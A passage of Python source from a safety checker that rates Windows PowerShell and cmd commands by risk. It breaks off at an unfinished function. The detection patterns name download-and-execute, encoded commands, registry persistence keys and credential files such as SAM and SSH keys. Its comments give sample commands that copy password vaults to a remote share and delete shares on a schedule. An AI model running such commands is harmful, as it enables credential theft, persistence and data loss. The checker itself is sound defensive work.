"""PowerShell and cmd commands, rated by what they do (see windows.py for the reading).

Deletes and permission changes use the same path verdicts as POSIX commands once the Windows
path is mapped (`C:\\` is `/`, `C:\\Users\\me` a home). Read-only cmdlets (Get-, Test-,
Select-, ...) are safe; unknown ones are moderate, as unknown programs are everywhere.
"""

from __future__ import annotations

import re
import shlex
from collections.abc import Callable

from tui.core.safety import char_codes, flow
from tui.core.safety.context import Context
from tui.core.safety.lazy import lazy_pattern
from tui.core.safety.model import Finding, RiskLevel
from tui.core.safety.parse import Command
from tui.core.safety.rules import (
    checks,
    dotnet,
    weakening,
    windows_admin,
    windows_bombs,
    windows_features,
    windows_filtered,
    windows_launch,
    windows_net,
    windows_packages,
    windows_procs,
    windows_programs,
    windows_servers,
    windows_shares,
    windows_upkeep,
    windows_vital,
    windows_writes,
)
from tui.core.safety.rules.empty_mirrors import is_empty_source
from tui.core.safety.rules.resolvers import outside_address
from tui.core.safety.rules.windows_scope import Scope, joined_lines
from tui.core.safety.rules.windows_system import (
    DOUBTFUL_PAYLOAD,
    SYSTEM_HANDLERS,
    flags_of,
    has_param,
    operands_of,
    params_of,
)
from tui.core.safety.rules.windows_threats import check_line
from tui.core.safety.targets import classify_delete, classify_permissions, classify_write
from tui.core.safety.windows import Statement, posix_path, split_statements
from tui.core.safety.words import literal

MODERATE = RiskLevel.MODERATE
HIGH = RiskLevel.HIGH
CRITICAL = RiskLevel.CRITICAL
READ_VERBS = frozenset(
    "get test select where sort measure format out write compare group resolve split join "
    "convertto convertfrom find show read trace search".split()
)
READ_ONLY = frozenset(
    (
        "dir type ipconfig systeminfo tasklist whoami hostname where echo findstr more sort fc "
        "tree ver vol netstat ping tracert nslookup pathping arp route nbtstat qwinsta query "
        "gpresult driverquery cls cd chdir pushd popd gci gc sls ls cat pwd help exit "
        "set-location push-location pop-location write-host write-output foreach-object % "
        "where-object ? tee-object clear-host"
    ).split()
)
_DOWNLOAD = lazy_pattern(
    r"(?i)downloadstring|downloadfile|invoke-webrequest|invoke-restmethod|\biwr\b|\birm\b|"
    r"net\.webclient|start-bitstransfer|https?://|\.downloaddata\("
)
_LITERAL = lazy_pattern(r"'([^']{6,})'|\"([^\"]{6,})\"")
_EXECUTE = lazy_pattern(
    r"(?i)\biex\b|invoke-expression|\|\s*powershell|\.invoke\(|\&\s*\(|"
    r"reflection\.assembly\]::load|scriptblock\]::create"
)


def analyse(text: str, ctx: Context, depth: int = 0) -> None:
    """Rates every statement of a PowerShell or cmd command line, each read with what the
    statements before it assigned (`$p = ...`) or where they moved (`cd ...`)."""
    text = joined_lines(text)
    scope = Scope()
    sts = []
    for st in split_statements(text):
        st = scope.apply(st)
        scope.learn(st)
        sts.append(st)
    if depth == 0:
        check_line(text, ctx)
        windows_bombs.check_line(text, ctx)
        windows_admin.machine_environment(text, ctx)
        windows_launch.check_line(text, ctx)
        windows_procs.check_line(text, ctx)
        windows_servers.check_line(text, ctx)
    if _DOWNLOAD.search(text) and _EXECUTE.search(text):
        ctx.add(CRITICAL, "downloads code from the internet and runs it (PowerShell)", text)
    elif _EXECUTE.search(text) and any(_DOWNLOAD.search(s[::-1]) for s in _literals(text)):
        reason = "runs code spelt backwards that downloads and runs more (PowerShell)"
        ctx.add(CRITICAL, reason, text)
    if dotnet.changes_files(text):
        ctx.add(MODERATE, "changes files through .NET calls", text)
    if depth < 4:
        for cmdlet in dotnet.as_cmdlets(text):  # `[IO.Directory]::Delete(p, $true)`
            analyse(cmdlet, ctx, depth + 1)
    for index, st in enumerate(sts):
        previous = sts[index - 1] if index else None
        if windows_filtered.filtered(sts, index):
            windows_filtered.rate_through(sts, index, ctx, rate)
        else:
            rate(st, ctx, previous)
        for word in st.args:
            inner = _block(word)
            if inner and depth < 4:
                inner = windows_writes.each_listed(st, previous, inner)
                windows_packages.uninstall_each(st, previous, inner, ctx)
                before = len(ctx.findings)
                analyse(inner, ctx, depth + 1)
                _scheduled(st, ctx.findings[before:], ctx)
    _exfiltration(text, sts, ctx)


_SCHEDULERS = frozenset(
    ("register-scheduledjob", "register-scheduledtask", "new-scheduledtaskaction")
)


def _scheduled(st: Statement, found: list[Finding], ctx: Context) -> None:
    """`Register-ScheduledJob -ScriptBlock { Remove-Item C:\\Shares\\* -Recurse }`: the harm
    comes back at every run, with nobody watching."""
    worst = max(found, key=lambda f: f.level, default=None)
    if st.name in _SCHEDULERS and worst is not None and worst.level >= HIGH:
        ctx.add(CRITICAL, f"schedules a job that {worst.reason}, again at every run", st.text)


def _literals(text: str) -> list[str]:
    """The quoted strings of a line (6 characters or more)."""
    return [m.group(1) or m.group(2) for m in _LITERAL.finditer(text[:20_000])]


def _block(word: str) -> str | None:
    """The code inside `{...}`, `$(...)` or `(...)`."""
    for opening, closing in (("{", "}"), ("$(", ")"), ("(", ")")):
        if word.startswith(opening) and word.endswith(closing):
            inner = word[len(opening) : -len(closing)]
            if opening == "{" and _IDENTIFIER.match(inner):
                return None  # bcdedit's `{current}`, `{bootmgr}`, a GUID: a name, not code
            return inner
    return None


_IDENTIFIER = lazy_pattern(r"^(?:[a-z]+|[0-9a-fA-F]{8}(?:-[0-9a-fA-F]{4}){3}-[0-9a-fA-F]{12})$")


def _cmd_loop(st: Statement, ctx: Context) -> None:
    """`for /F %a in (...) do CMD %a`: CMD is rated as if written alone."""
    lowered = [word.lower() for word in st.words]
    if "do" not in lowered:
        return
    body = st.words[lowered.index("do") + 1 :]
    source = next((w for w in st.words if w.startswith("(") and w.endswith(")")), "")
    if "/l" in lowered and windows_bombs.endless_count(source) and body:
        windows_bombs.endless_cmd_loop(st, tuple(body), ctx)
    elif "/l" in lowered and body:
        windows_bombs.many_starts(st, source, tuple(body), ctx)
    inner = source[1:-1].strip()
    if len(inner) > 2 and inner[0] in "'`" and inner[-1] == inner[0]:
        rate(Statement(tuple(inner[1:-1].split()), inner[1:-1]), ctx, None)
    variable = next((w for w in st.words if re.fullmatch(r"%%?~?[a-zA-Z0-9]", w)), None)
    if variable and inner and inner[0] not in "'`\"" and " " not in inner:
        body = tuple(w.replace(variable, inner) for w in body)  # `in (C:\Users\*) do rd %d`
    if body:
        rate(Statement(tuple(body), " ".join(body)), ctx, None)


def rate(st: Statement, ctx: Context, previous: Statement | None) -> None:
    name = st.name
    inner = _block(st.words[0]) if st.words else None
    if inner is not None and st.words[0][:1] in "{(":
        analyse(inner, ctx, 1)  # `& { ... }`, `( ... )`: the code inside
        return
    if _dotnet(st, ctx):
        return
    if not name or name[0] in "$0123456789'\"(@[" or st.words[0].startswith("["):
        return  # an expression or assignment, not a command
    if "-whatif" in flags_of(st):
        return  # PowerShell's -WhatIf: the cmdlet only says what it would do
    if st.args and all(a.lower() in ("/?", "-?", "/help") for a in st.args):
        return  # `diskpart /?`: the tool prints its help and stops
    windows_writes.redirects(st, ctx)
    if name == "for":
        _cmd_loop(st, ctx)
        return
    handler = _HANDLERS.get(name)
    if handler is not None:
        handler(st, ctx, previous)
        return
    if name in READ_ONLY or name.split("-", 1)[0] in READ_VERBS:
        return
    if windows_servers.unconfirmed(st, ctx):
        return
    if "-" in name:
        ctx.add(MODERATE, f"changes something on Windows ({st.words[0]})", st.text)
    else:
        reason = f"`{st.words[0]}` is not a command caro knows: its effect is unknown"
        ctx.add(MODERATE, reason, st.text)


def _delete(st: Statement, ctx: Context, previous: Statement | None) -> None:
    recursive = "/s" in flags_of(st) or has_param(st, "recurse")
    operands = operands_of(st, frozenset({"-include", "-exclude", "-filter"}))
    listed = operands_of(previous) if previous is not None and not operands else []
    if any(_MACHINE_CERTIFICATES.match(p) for p in operands + listed):
        reason = "removes certificates the whole machine trusts: secure connections fail"
        ctx.add(HIGH, reason, st.text)
        return
    if previous is not None and not operands:
        ctx.add(MODERATE, "deletes what the previous command lists", st.text)
        if previous.name in ("get-childitem", "gci", "dir", "ls"):
            _delete_listed(previous, st, ctx)
        elif previous.name in ("get-item", "gi"):  # the items themselves
            _delete_paths(operands_of(previous), recursive, st, ctx)
        return
    _delete_paths(operands, recursive, st, ctx)


def _delete_listed(listing: Statement, st: Statement, ctx: Context) -> None:
    """`gci PATH [-Recurse] [-Include *.log] | Remove-Item`: what PATH holds (all under it
    with -Recurse); a filter of throw-away files (logs, temporary and build files) narrows
    the deletion, one of documents does not."""
    patterns = [v for n, v in params_of(listing) if n in ("include", "filter") and v]
    folders = operands_of(listing, frozenset({"-include", "-exclude", "-filter", "-depth"}))
    names = [p for pattern in patterns for p in pattern.split(",") if p]
    if names and all(_DISPOSABLE.fullmatch(p) for p in names):
        broad = _broad_folder(folders) if has_param(listing, "recurse") else None
        if broad is not None:  # throw-away for one program, not for every program at once
            reason = f"deletes every {patterns[0]} file under {broad}: other programs' files too"
            ctx.add(HIGH, reason, st.text)
        else:
            reason = f"deletes the files matching {patterns[0]} under a folder"
            ctx.add(MODERATE, reason, st.text)
        return
    here = all(not re.match(r"(?i)^([a-z]:|[\\/$%~])", f) for f in folders)  # in this folder
    if here and names and all(p.strip("'\"").lower() in _REBUILT for p in names):
        reason = f"deletes the {patterns[0]} folders under a folder: a build makes them again"
        ctx.add(MODERATE, reason, st.text)
        return
    if has_param(listing, "recurse"):
        _delete_paths(folders or ["."], True, st, ctx)
        return
    children = [f if re.search(r"[*?]", f) else f.rstrip("\\/") + "\\*" for f in folders or ["."]]
    _delete_paths(children, "/s" in flags_of(st) or has_param(st, "recurse"), st, ctx)


def _broad_folder(folders: list[str]) -> str | None:
    """The first folder that is a drive, a system folder or a home folder: a filter of file
    names (`*.log`) reaches every program's files under it, not one program's."""
    for folder in folders:
        if classify_delete(posix_path(folder), recursive=True).level == CRITICAL:
            return folder
    return None


# Folders that builds and package managers fill and make again.
_REBUILT = frozenset(
    "node_modules __pycache__ .pytest_cache .mypy_cache .ruff_cache bin obj target dist "
    ".gradle .next .parcel-cache .tox".split()
)
_DISPOSABLE = lazy_pattern(
    r"(?i)\*?[\w-]*\.(log|tmp|temp|bak|old|pyc|pyo|obj|o|class|cache|dmp|etl|swp|pdb|ilk|tlog)"
)
# The machine's certificate stores (the current user's own ones are Cert:\\CurrentUser).
_MACHINE_CERTIFICATES = lazy_pattern(r"(?i)^['\"]?cert:\\+localmachine\\+(root|ca|authroot)")
_DOTNET_DELETE = lazy_pattern(
    r"(?i)\[(?:system\.)?io\.(?P<kind>directory|file)\]::delete\(\s*['\"]?(?P<path>[^'\",)]+)"
    r"['\"]?\s*(?:,\s*(?P<recursive>\$true|true|1))?"
)


def _dotnet(st: Statement, ctx: Context) -> bool:
    """.NET calls that delete: `[System.IO.Directory]::Delete("C:\\x", $true)`."""
    match = _DOTNET_DELETE.search(st.text)
    if match is None:
        return False
    recursive = match.group("kind").lower() == "directory" and bool(match.group("recursive"))
    _delete_paths([match.group("path")], recursive, st, ctx)
    return True


def _listed_paths(operands: list[str]) -> list[str]:
    """`@("a","b")` and `"a","b"` (quotes gone: `a,b`) as the paths they list."""
    listed: list[str] = []
    for operand in operands:
        inner = operand[2:-1] if operand.startswith("@(") and operand.endswith(")") else operand
        parts = [p.strip().strip("'\"") for p in inner.split(",")] if "," in inner else [inner]
        listed.extend(p for p in parts if p)
    return listed


def _delete_paths(operands: list[str], recursive: bool, st: Statement, ctx: Context) -> None:
    for operand in _listed_paths(operands):
        operand = operand[4:] if operand.startswith(("\\\\?\\", "\\\\.\\")) else operand
        if windows_servers.special_delete(operand, st, ctx):
            continue
        if operand.upper().startswith(("HKLM", "HKCU", "HKCR", "HKU", "REGISTRY::")):
            _registry_delete(operand, st, ctx)
            continue
        if windows_vital.vital_write(operand, st, ctx, "deletes"):
            continue
        path = posix_path(operand)
        verdict = classify_delete(path, recursive=recursive)
        reason = verdict.reason.replace(path, operand, 1)
        ctx.add(max(verdict.level, MODERATE), reason, st.text)


def _sdelete(st: Statement, ctx: Context, previous: Statement | None) -> None:
    """Sysinternals sdelete: overwrites before deleting, so no undelete tool gets it back;
    `-z`/`-c` overwrite a drive's free space instead."""
    flags = {a.lower() for a in st.args if a.startswith(("-", "/"))}
    operands = operands_of(st, frozenset({"-p", "/p"}))
    if flags & {"-z", "-c", "/z", "/c"}:
        ctx.add(HIGH, "overwrites the free space of a drive (sdelete)", st.text)
        return
    recursive = bool(flags & {"-s", "-r", "/s", "/r"})
    for operand in operands:
        path = posix_path(operand)
        verdict = classify_delete(path, recursive=recursive)
        reason = verdict.reason.replace(path, operand, 1)
        ctx.add(max(verdict.level, HIGH), f"{reason}, overwritten beyond recovery", st.text)


def _registry_value_delete(key: str, st: Statement, ctx: Context) -> None:
    """One value (`reg delete KEY /v NAME`, Remove-ItemProperty): less than the whole key."""
    if key.upper().startswith(("HKLM", "HKCR", "HKEY_LOCAL")) and not _app_key(key):
        ctx.add(HIGH, f"deletes a value of the system registry key {key}", st.text)
    else:
        ctx.add(MODERATE, f"deletes a registry value under {key}", st.text)


def _registry_delete(key: str, st: Statement, ctx: Context) -> None:
    if key.upper().startswith(("HKLM", "HKCR", "REGISTRY::HKEY_LOCAL", "HKEY_LOCAL")):
        ctx.add(CRITICAL, f"deletes the system registry key {key}", st.text)
    elif _app_key(key):  # HKCU\\Software\\Vendor: one program's settings
        ctx.add(MODERATE, f"deletes an application's registry key {key}", st.text)
    else:
        ctx.add(HIGH, f"deletes the registry key {key}", st.text)


_SHARED_VENDORS = frozenset("microsoft policies classes wow6432node".split())


def _app_key(key: str) -> bool:
    """`HKCU\\Software\\Vendor\\App...`: one program's own settings, not Windows' ones."""
    parts = [p.lower() for p in re.split(r"[\\/]+", key.strip("'\"")) if p]
    return (
        len(parts) >= 3
        and parts[0].rstrip(":") in ("hkcu", "hkey_current_user", "hklm", "hkey_local_machine")
        and parts[1] == "software"
        and parts[2] not in _SHARED_VENDORS
    )


# System settings people change routinely (long paths for developer tools).
_ROUTINE_VALUES = lazy_pattern(r"(?i)\\control\\filesystem\b.*\blongpathsenabled\b")


def _reg(st: Statement, ctx: Context, previous: Statement | None) -> None:
    args = [a.lower() for a in st.args]
    action = args[0] if args else ""
    key = st.args[1] if len(st.args) > 1 else ""
    if action in ("query", "export", "compare"):
        return
    if action == "delete" and "/v" in args and "/va" not in args:
        _registry_value_delete(key, st, ctx)
    elif action == "delete":
        _registry_delete(key, st, ctx)
    elif action == "import":
        reason = "merges a registry file: which keys it changes is not shown (reg import)"
        ctx.add(HIGH, reason, st.text)
    elif action in ("add", "restore", "load", "copy"):
        _registry_change(key, st, ctx)
    else:
        ctx.add(MODERATE, "changes the registry (reg)", st.text)


# Registry places that swap a program Windows itself starts (log-on, the log-on screen's
# accessibility tools, every program's start or its libraries): whoever writes them runs first.
_HIJACKS = (
    ("\\winlogon", ("userinit", "shell", "taskman", "appsetup")),
    ("image file execution options", ("debugger", "globalflag")),
    ("silentprocessexit", ("monitorprocess",)),
    ("\\windows", ("appinit_dlls", "loadappinit_dlls")),
    ("\\lsa", ("security packages", "authentication packages", "notification packages")),
    ("\\command processor", ("autorun",)),
)


def _hijacked(lower: str) -> bool:
    return any(key in lower and any(value in lower for value in values) for key, values in _HIJACKS)


# Registry places whose programs Windows starts by itself (at logon, with every process, ...).
_AUTOSTART = lazy_pattern(
    r"\\run(once(ex)?)?\b|\\runservices|winlogon|userinitmprlogonscript|appinit_dlls|"
    r"\\policies\\explorer\\run|silentprocessexit|\\explorer\\shell folders|"
    r"\\command processor.*autorun|windows nt\\currentversion\\windows\b.*\b(load|run)\b"
)
# `HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command`: what runs when that is opened.
_OPEN_COMMAND = lazy_pattern(r"\\classes\\[^\\\s]+\\shell\\[^\\\s]+\\command\b")
_ADDRESS = lazy_pattern(r"\b\d{1,3}(?:\.\d{1,3}){3}\b")


def _registry_change(key: str, st: Statement, ctx: Context) -> None:
    lower = key.lower() + " " + st.text.lower()
    if _hijacked(lower) and not ("image file execution options" in lower and "debugger" in lower):
        reason = "replaces a program Windows starts by itself (log-on, log-on screen) (registry)"
        ctx.add(CRITICAL, reason, st.text)
        return
    if "image file execution options" in lower and "debugger" in lower:
        ctx.add(CRITICAL, "runs another program whenever a program starts (IFEO debugger)", st.text)
        return
    autostart = bool(_AUTOSTART.search(lower))
    if autostart and DOUBTFUL_PAYLOAD.search(st.text.split(key, 1)[-1] if key else st.text):
        reason = "makes hidden code, or a program from a folder anyone can write, start at logon"
        ctx.add(CRITICAL, reason, st.text)
        return
    proxy = [a for a in _ADDRESS.findall(st.text) if outside_address(a)]
    if autostart or "image file execution" in lower:
        ctx.add(HIGH, "makes a program start by itself at every logon (registry)", st.text)
    elif _OPEN_COMMAND.search(lower):
        reason = "changes the program Windows runs to open a file type or link (registry)"
        ctx.add(HIGH, reason, st.text)
    elif "internet settings" in lower and "proxy" in lower and proxy:
        reason = f"sends all web traffic through {proxy[0]}, an outside address that can read it"
        ctx.add(HIGH, reason, st.text)
    elif "disableantispyware" in lower or "windows defender" in lower or "enablelua" in lower:
        ctx.add(HIGH, "turns off a Windows security protection (registry)", st.text)
    elif _app_key(key) or _ROUTINE_VALUES.search(st.text):
        ctx.add(MODERATE, f"changes an application's or a routine setting ({key})", st.text)
    elif key.upper().startswith(("HKLM", "HKCR", "HKEY_LOCAL")):
        ctx.add(HIGH, f"changes the system registry ({key})", st.text)
    else:
        ctx.add(MODERATE, f"changes the registry ({key})", st.text)


def _registry_cmdlet(st: Statement, ctx: Context, previous: Statement | None) -> None:
    paths = operands_of(st, frozenset({"-name", "-value", "-propertytype", "-type"}))
    key = next((p for p in paths if ":" in p), paths[0] if paths else "")
    if st.name == "remove-itemproperty":
        _registry_value_delete(key, st, ctx)
        return
    _registry_change(key, st, ctx)


def _format(st: Statement, ctx: Context, previous: Statement | None) -> None:
    target = next((a for a in st.args if not a.startswith(("/", "-"))), "a drive")
    ctx.add(CRITICAL, f"formats {target}: erases everything on it", st.text)


def _disk_cmdlet(st: Statement, ctx: Context, previous: Statement | None) -> None:
    ctx.add(CRITICAL, f"erases a disk or volume ({st.words[0]})", st.text)


def _diskpart(st: Statement, ctx: Context, previous: Statement | None) -> None:
    if windows_admin.diskpart_reads(previous):
        return  # `echo list disk | diskpart`: only lists
    ctx.add(HIGH, "edits disks and partitions (diskpart)", st.text)


def _remove_accounts(st: Statement, ctx: Context, previous: Statement | None) -> None:
    windows_admin.removes_accounts(st, ctx, previous, SYSTEM_HANDLERS.get(st.name))


def _permissions(st: Statement, ctx: Context, previous: Statement | None) -> None:
    text = st.text.lower()
    recursive = "/t" in flags_of(st) or "/r" in flags_of(st) or "-recurse" in text
    loose = bool(_BROAD_GRANT.search(text))
    if _ANY_GRANT.search(text) and _HASH_FILES.search(text):
        ctx.add(CRITICAL, "lets every user read the machine's password hashes", st.text)
    operands = [o for o in operands_of(st) if ":" not in o or re.match(r"^[A-Za-z]:", o)]
    changes = ("/grant", "/deny", "/remove", "/reset", "/setowner", "/inheritance")
    if st.name == "cacls" and flags_of(st) & {"/g", "/r", "/p", "/d"}:
        loose = loose or bool(re.search(r"(?i)/[gp]\s+(everyone|users|authenticated users):", text))
    elif st.name in ("icacls", "cacls") and not any(w in text for w in changes):
        return
    verb = "takes ownership of" if st.name == "takeown" else "changes permissions of"
    for operand in operands[:1]:
        path = posix_path(operand)
        verdict = classify_permissions(path, recursive=recursive, verb=verb, loose=loose)
        ctx.add(verdict.level, verdict.reason.replace(path, operand, 1), st.text)
        own = path == "/usr" or path.startswith(("/usr/", "/etc/"))  # /etc: drivers\\etc
        if st.name == "takeown" and own:
            reason = (
                f"takes ownership of Windows' own files ({operand}): the step before replacing them"
            )
            ctx.add(HIGH, reason, st.text)
    if not operands:
        ctx.add(MODERATE, f"changes file permissions ({st.words[0]})", st.text)


# Any grant to everyone, or full control to all users or signed-in users.
_BROAD_GRANT = lazy_pattern(
    r"(?i)\beveryone\b|\*s-1-1-0\b|/grant(:r)?\s+['\"]?(users|authenticated users|"
    r"\*s-1-5-11|\*s-1-5-32-545)['\"]?:(\([a-z]+\))*\(?f"
)
# Any grant to everyone or all users, and the files where even reading gives the machine away.
_ANY_GRANT = lazy_pattern(
    r"(?i)/grant(:r)?\s+['\"]?(everyone|users|authenticated users|\*s-1-1-0|\*s-1-5-11|"
    r"\*s-1-5-32-545)['\"]?:"
)
_HASH_FILES = lazy_pattern(r"(?i)\\config\\(sam|security|system)\b|\bntds\.dit\b")


def _write(st: Statement, ctx: Context, previous: Statement | None) -> None:
    if st.name in ("clear-content", "clc", "set-content", "sc") and windows_writes.emptied_each(
        st, ctx, previous
    ):
        return
    operands = operands_of(st, frozenset({"-value", "-encoding", "-inputobject"}))
    append = st.name in ("add-content", "ac") or "-append" in st.text.lower()
    value = " ".join(v for n, v in params_of(st) if n in ("value", "va", "val"))
    value = value or " ".join(operands[1:2])  # `Add-Content FILE 'text'`: the value by position
    for operand in operands[:1]:
        if windows_vital.vital_write(operand, st, ctx):
            continue
        if windows_writes.profile(operand, value, st, ctx):
            continue
        if operand.lower().endswith("administrators_authorized_keys"):
            reason = (
                "lets another SSH key log in as an administrator (administrators_authorized_keys)"
            )
            ctx.add(HIGH, reason, st.text)
            continue
        verdict = weakening.written(posix_path(operand), value) if value else None
        verdict = verdict or classify_write(posix_path(operand), append=append)
        if verdict is not None:
            ctx.add(
                verdict.level,
                verdict.reason.replace(posix_path(operand), operand, 1),
                st.text,
            )
        if "startup" in operand.lower():
            ctx.add(HIGH, "puts a program in the Startup folder: it runs at every logon", st.text)


def _copy(st: Statement, ctx: Context, previous: Statement | None) -> None:
    operands = operands_of(st, frozenset({"-filter", "-include", "-exclude"}))
    text = st.text.lower()
    if "startup" in text and ("start menu" in text or "\\startup" in text):
        ctx.add(HIGH, "puts a program in the Startup folder: it runs at every logon", st.text)
    if st.name == "robocopy" and "/l" in flags_of(st):
        return  # robocopy /L only lists what it would copy or delete
    if st.name == "robocopy" and ("/mir" in text or "/purge" in text) and len(operands) >= 2:
        deleted = classify_delete(posix_path(operands[1]), recursive=True)
        level = deleted.level if deleted.level >= HIGH else MODERATE
        if is_empty_source(operands[0]):
            level = CRITICAL
            reason = f"mirrors an empty folder into {operands[1]}: everything there is deleted"
            ctx.add(level, reason, st.text)
            return
        ctx.add(level, f"mirrors into {operands[1]}, deleting what is not in the source", st.text)
        return
    if previous is not None and previous.name in _LISTERS and _listed_secrets(previous, st):
        ctx.add(
            HIGH, "copies the keys or password stores a listing picks to another machine", st.text
        )
        return
    if any(_HASH_FILES.search(o) for o in operands[:-1]) and len(operands) >= 2:
        away = operands[-1].startswith("\\\\")
        reason = "copies the machine's password hashes (SAM, SYSTEM, NTDS)"
        ctx.add(
            CRITICAL if away else HIGH, reason + (" to another machine" if away else ""), st.text
        )
        return
    carried = _secret_to_drive(operands)
    if carried is not None:
        away = operands[-1].startswith("\\\\")  # `\\host\share`: another machine
        ctx.add(CRITICAL if away else HIGH, carried, st.text)
        return
    if st.name in _MOVES and len(operands) >= 2 and _moved_away(operands[:-1], st, ctx):
        return
    if len(operands) >= 2:
        target = operands[-1]
        if target.endswith(("\\", "/")):  # into a folder: the file keeps its name there
            target += re.split(r"[\\/]", operands[0].rstrip("\\/"))[-1]
        verdict = classify_write(posix_path(target), append=False)
        if verdict is not None and verdict.level >= HIGH:
            ctx.add(verdict.level, verdict.reason, st.text)
            return
    ctx.add(MODERATE, f"copies or moves files ({st.words[0]})", st.text)


_MOVES = frozenset("move-item move mi mv".split())
_RENAMES = frozenset("rename-item rni ren rename".split())


def _wmi_create(st: Statement, ctx: Context, previous: Statement | None) -> None:
    """`wmic [/node:HOST] process call create "CMD"`, `Invoke-WmiMethod -Class Win32_Process
    -Name Create -ArgumentList "CMD"`: CMD is rated as if written here (on HOST it does the
    same there)."""
    lowered = [a.lower() for a in st.args]
    code = ""
    if "create" in lowered and "process" in lowered:
        code = " ".join(st.args[lowered.index("create") + 1 :])
    elif "win32_process" in st.text.lower():
        code = next((v for n, v in _raw_params(st) if n in ("argumentlist", "args")), "")
    if code.strip():
        analyse(code, ctx, 1)
    windows_procs.wmi_process(st, ctx, previous)


def _raw_params(st: Statement) -> list[tuple[str, str]]:
    """(`-name` lowered, the next word as written) for each parameter."""
    args = list(st.args)
    return [
        (a[1:].lower(), args[i + 1])
        for i, a in enumerate(args[:-1])
        if a.startswith("-") and not args[i + 1].startswith("-")
    ]


def _new_item(st: Statement, ctx: Context, previous: Statement | None) -> None:
    """`New-Item -Force` over an existing file empties it: over a vital one, Windows breaks."""
    kind = next((v for n, v in params_of(st) if n in ("itemtype", "type")), "file")
    targets = operands_of(st, frozenset({"-itemtype", "-type", "-value", "-name", "-target"}))
    target = targets[0] if targets else ""
    if target.upper().startswith(("HKLM", "HKCU", "HKCR", "HKU", "REGISTRY::")):
        _registry_change(target, st, ctx)
        return
    if kind == "file" and has_param(st, "force", 2) and windows_vital.vital_write(target, st, ctx):
        return
    if "\\startup\\" in target.lower() + "\\":
        ctx.add(HIGH, "puts a program in the Startup folder: it runs at every logon", st.text)
        return
    verdict = classify_write(posix_path(target), append=False) if kind != "directory" else None
    if target and verdict is not None and verdict.level >= HIGH:
        ctx.add(verdict.level, verdict.reason.replace(posix_path(target), target, 1), st.text)
        return
    ctx.add(MODERATE, f"creates a file, folder or link ({st.words[0]})", st.text)


def _rename(st: Statement, ctx: Context, previous: Statement | None) -> None:
    """Rename-Item, ren: a system file renamed is gone from where Windows looks for it."""
    operands = operands_of(st, frozenset({"-newname"}))
    if operands and _moved_away(operands[:1], st, ctx):
        return
    ctx.add(MODERATE, f"renames a file or folder ({st.words[0]})", st.text)


def _moved_away(sources: list[str], st: Statement, ctx: Context) -> bool:
    """`Move-Item C:\\Windows\\System32\\ntoskrnl.exe D:\\`: gone from where it is needed,
    as if deleted. True when rated here."""
    rated = False
    for source in sources:
        moved = "renames away" if st.name in _RENAMES else "moves away"
        if windows_vital.vital_write(source, st, ctx, moved):
            rated = True
            continue
        path = posix_path(source)
        if not path.startswith(("/usr/", "/etc/", "/boot/")):
            continue  # a user's files moved elsewhere are still there
        verdict = classify_delete(path, recursive=True)
        if verdict.level >= HIGH:
            reason = verdict.reason.replace(path, source, 1)
            moved = "renames away" if st.name in _RENAMES else "moves away"
            reason = reason.replace("deletes", moved, 1).replace(" recursively", "", 1)
            ctx.add(verdict.level, reason, st.text)
            rated = True
    return rated


_LISTERS = frozenset(("get-childitem", "gci", "dir", "ls"))
# Files that hold keys or passwords whatever their folder: key stores, certificates, vaults.
_SECRET_FILES = lazy_pattern(
    r"(?i)\.(kdbx?|pem|pfx|p12|key|ppk|ovpn|rdp)\b|id_(rsa|ed25519|ecdsa)|credentials|"
    r"login data|wallet\.dat|\.aws|\.ssh"
)


def _listed_secrets(listing: Statement, st: Statement) -> bool:
    """`gci C:\\Users -Recurse -Include *.kdbx | Copy-Item -Destination \\\\host\\s`: the
    listing picks secrets, the copy takes them to another machine or drive."""
    picked = " ".join(v for n, v in params_of(listing) if n in ("include", "filter"))
    destination = next((v for n, v in params_of(st) if n in ("destination", "d")), "")
    destination = destination or (operands_of(st)[-1:] or [""])[0]
    away = posix_path(destination).startswith("/Volumes/")
    return away and bool(_SECRET_FILES.search(picked))


def _secret_to_drive(operands: list[str]) -> str | None:
    """`copy %USERPROFILE%\\.ssh\\id_rsa E:\\`: a secret carried off on another drive."""
    if len(operands) < 2 or not posix_path(operands[-1]).startswith("/Volumes/"):
        return None
    for source in operands[:-1]:
        browser = _BROWSER_SECRETS.search(source.lower())
        what = "saved browser passwords or cookies" if browser else None
        what = what or flow.secret_path(posix_path(source))
        where = "machine" if operands[-1].startswith("\\\\") else "drive"
        if what:
            return f"copies {what} to another {where} ({operands[-1]})"
    return None


_CARET = lazy_pattern(r"\^(.)")


def _encoded(st: Statement, ctx: Context, previous: Statement | None) -> None:
    """powershell/pwsh/cmd: parameters in any prefix PowerShell accepts (`-enc`, `-e`, `-ec`,
    `-EncodedCom`; `-c`, `-Com`; `-ep`, `-ex`), then the code they run."""
    args = list(st.args)
    shell = st.name not in ("cmd", "cmd.exe")
    for index, arg in enumerate(args):
        given = arg.lower().lstrip("-/") if arg[:1] in "-/" else ""
        if shell and arg.startswith("-") and (given == "ec" or _prefix(given, "encodedcommand")):
            ctx.add(CRITICAL, "runs hidden (base64-encoded) PowerShell code", st.text)
            return
        runs = _prefix(given, "command", 1) if shell else given in ("c", "k", "r")
        if runs and index + 1 < len(args):
            code = " ".join(args[index + 1 :])
            if not shell and "^" in code:
                code = _CARET.sub(r"\1", code)  # `r^d /s /q`: cmd's escape character, gone
            analyse(code, ctx, 1)
            return
    if any(n in ("ep", "ex") or _prefix(n, "executionpolicy", 2) for n, _ in params_of(st)) and (
        "bypass" in st.text.lower() or "unrestricted" in st.text.lower()
    ):
        if _project_script(st, ctx):
            reason = "runs a script of this folder with PowerShell's script policy bypassed"
            ctx.add(MODERATE, reason, st.text)
            return
        ctx.add(HIGH, "runs a script with PowerShell's safety checks turned off", st.text)
        return
    ctx.add(MODERATE, f"starts a shell ({st.words[0]})", st.text)


def _project_script(st: Statement, ctx: Context) -> bool:
    """`powershell -ExecutionPolicy Bypass -File .\\scripts\\setup.ps1`: a script under the
    current folder, not one fetched in the same line or taken from elsewhere."""
    args = list(st.args)
    script = next(
        (
            args[i + 1]
            for i, a in enumerate(args[:-1])
            if a[:1] == "-" and _prefix(a[1:].lower(), "file", 1)
        ),
        "",
    ).strip("'\"")
    return (
        bool(script)
        and not re.match(r"(?i)^([a-z]:|[\\/$%~]|\.\.)", script)
        and ".." not in script
        and not _DOWNLOAD.search(st.text)
        and script.lower().removeprefix(".\\").removeprefix("./") not in ctx.downloads
    )


def _prefix(given: str, name: str, shortest: int = 1) -> bool:
    return len(given) >= shortest and name.startswith(given)


def _invoke(st: Statement, ctx: Context, previous: Statement | None) -> None:
